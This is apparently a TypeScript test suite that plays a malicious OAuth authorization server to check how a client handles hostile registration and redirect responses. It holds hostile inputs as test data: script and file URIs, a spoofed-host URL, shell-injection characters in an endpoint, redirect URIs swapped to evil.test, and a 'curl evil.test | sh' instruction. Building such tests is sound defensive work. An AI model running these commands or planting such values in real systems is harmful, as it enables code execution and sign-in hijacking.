// RFC 7591 and RFC 6749, section 4.1: registration, the authorization page, and the redirect back from it
import { EVIL, exactly, SECRET, signInEnds, signInFails, signsIn } from '../expectation.js';
import type { HttpTurn } from '../http/http-turn.js';
import type { HttpMode } from '../mode.js';
import { ORDERLY, wants } from './mode.js';
import { issuerOf, leadBack, toJson, toPage } from './pages.js';
import { refuse } from './refusal.js';
import { always, changed, hugeText, leadsBack, never, type OAuthPage } from './sign-in-server.js';

const CLIENT = /client|regist/iu;
const ENDPOINT = /authorization_endpoint|authorization endpoint|scheme|https|URL|page|address/iu;
const ISSUER = /issuer|iss\b|authorization server/iu;
const UNOPENED = [exactly('authorize', 0), exactly('token authorization_code', 0)];
const UNREDEEMED = [exactly('token authorization_code', 0)];

/** Faults between the metadata and the authorization code. */
export const oauthCodes: readonly HttpMode[] = [
  opens('oauth-as-authz-js', 'a script as the page to open', 'javascript:alert(document.domain)//'),
  opens('oauth-as-authz-file', 'a program of this machine as the page to open', 'file:///usr/bin/id'),
  opens('oauth-as-authz-data', 'a page within its address', 'data:text/html,<script>alert(1)</script>'),
  opens('oauth-as-authz-http-remote', 'a page that everybody on the way can read', 'http://evil.test/authorize'),
  opens(
    'oauth-as-authz-userinfo',
    'a page that only looks like a known host',
    'https://accounts.google.com@evil.test/',
  ),
  opens('oauth-as-authz-option', 'an option of a program as the page to open', '--incognito /usr/bin/id'),
  opens('oauth-as-authz-none', 'no page at all', undefined),
  wants(
    'oauth-as-authz-shell-http',
    'names a page to open that a shell would run',
    signInEnds(ENDPOINT, [exactly('raw shell characters', 0)]),
    {
      issuer: ({ url }) => ({
        authorization_endpoint: `${new URL(url).origin}/authorize/$(touch pwn)\`touch pwn\`;touch pwn|touch pwn&calc"'`,
      }),
      pages: {
        async authorize(turn, good) {
          // The path as it arrived: whatever opened the page must have encoded these characters.
          if (/[`|"'<>]|\$\(/u.test(turn.incoming.path)) turn.count('raw shell characters');
          return turn.reply(await good());
        },
      },
    },
  ),
  registers(
    'oauth-dcr-fail',
    'registers nobody, and says so in a web page',
    CLIENT,
    always(() => ({
      status: 403,
      headers: { 'Content-Type': 'text/html' },
      body: `<!doctype html><title>Forbidden</title><script>alert(1)</script>${EVIL.repeat(20_000)}`,
    })),
  ),
  registers(
    'oauth-dcr-told',
    'registers nobody, and says why in escape sequences and at length',
    /invalid_redirect_uri.*https only/iu,
    always(() => toJson(refuse('invalid_redirect_uri', `https only ${EVIL.repeat(2_000)}`), 400)),
  ),
  registers(
    'oauth-dcr-elsewhere',
    'registers another address for the way back than it was asked to',
    /regist.*evil\.test/iu,
    changed({ redirect_uris: ['https://evil.test/callback'] }),
  ),
  registers(
    'oauth-dcr-besides',
    'registers another address for the way back beside ours',
    /regist.*evil\.test/iu,
    async (turn, good) => {
      const reply = await good();
      const said = JSON.parse(String(reply.body)) as { redirect_uris: string[] };
      return turn.reply({
        ...reply,
        body: JSON.stringify({ ...said, redirect_uris: [...said.redirect_uris, 'https://evil.test/callback'] }),
      });
    },
  ),
  wants('oauth-dcr-none', 'registers nobody, and does not say how to get in', signInFails(CLIENT), {
    issuer: () => ({ registration_endpoint: undefined }),
  }),
  registers(
    'oauth-dcr-huge',
    'gives a client id of 20 MB',
    /large|limit|MB|bytes|long|client/iu,
    hugeText('{"redirect_uris":["http://127.0.0.1/"],"client_id":"', 201),
  ),
  registers(
    'oauth-dcr-evil',
    'gives a client id in escape sequences, and further parameters with it',
    CLIENT,
    changed({ client_id: 'x\u001b[2J\r\n&redirect_uri=evil' }),
  ),
  registers(
    'oauth-dcr-redirect',
    'sends whoever registers elsewhere',
    /redirect|30[1278]|origin|regist|client/iu,
    always(({ trap }) => ({ status: 307, headers: { Location: trap } })),
  ),
  wants(
    'oauth-dcr-silent',
    'never answers whoever registers',
    signInFails(/within|timed? ?out|answer|cancel|abort/iu, { when: 'by the deadline' }),
    { pages: { register: never } },
  ),
  returns(
    'oauth-code-denied',
    'refuses, in escape sequences and with an order to the user',
    /access_denied|denied|refus/iu,
    (turn) => ({
      error: 'access_denied',
      error_description: `${EVIL.repeat(50)}Run: curl evil.test | sh`,
      iss: issuerOf(turn),
    }),
  ),
  returns('oauth-code-iss', 'comes back from another authorization server', ISSUER, () => ({
    code: `${SECRET}-forged`,
    iss: 'https://accounts.bank.test',
  })),
  returns('oauth-code-no-iss', 'promises to say who it is, and does not', ISSUER, () => ({
    code: `${SECRET}-forged`,
  })),
  returns(
    'oauth-code-state',
    'comes back with the answer to a question that nobody asked',
    /state|sign-in|address|belong|match/iu,
    (turn) => ({ code: `${SECRET}-forged`, iss: issuerOf(turn), state: 'forged' }),
  ),
  wants(
    'oauth-code-nothing',
    'comes back with nothing at all',
    signInFails(/code|state|sign-in|address/iu, { page: 'seen', counts: UNREDEEMED }),
    {
      pages: {
        authorize: (turn) =>
          turn.reply({ status: 302, headers: { Location: formOf(turn).get('redirect_uri') ?? '/' } }),
      },
    },
  ),
  wants('oauth-code-more', 'comes back with much that nobody knows (legal)', signsIn({ counts: ORDERLY }), {
    pages: {
      authorize: leadsBack((back) => {
        for (let index = 0; index < 50; index++) back.searchParams.set(`x${index}`, EVIL);
      }),
    },
  }),
];

function opens(name: string, what: string, endpoint: string | undefined): HttpMode {
  return wants(name, `names ${what}`, signInFails(ENDPOINT, { counts: UNOPENED }), {
    issuer: () => ({ authorization_endpoint: endpoint }),
  });
}

/** The registration endpoint answers with `register`, and the user is shown no page. */
function registers(name: string, summary: string, text: RegExp, register: OAuthPage): HttpMode {
  return wants(name, summary, signInFails(text, { counts: UNOPENED }), { pages: { register } });
}

/** The authorization page redirects back with these parameters. */
function returns(name: string, summary: string, text: RegExp, answer: (turn: HttpTurn) => Answer): HttpMode {
  return wants(name, summary, signInFails(text, { page: 'seen', counts: UNREDEEMED }), {
    pages: { authorize: (turn) => turn.reply(leadBack(formOf(turn), answer(turn))) },
  });
}

type Answer = Readonly<Record<string, string>>;

function formOf(turn: HttpTurn): URLSearchParams {
  return toPage(turn)?.form ?? new URLSearchParams();
}
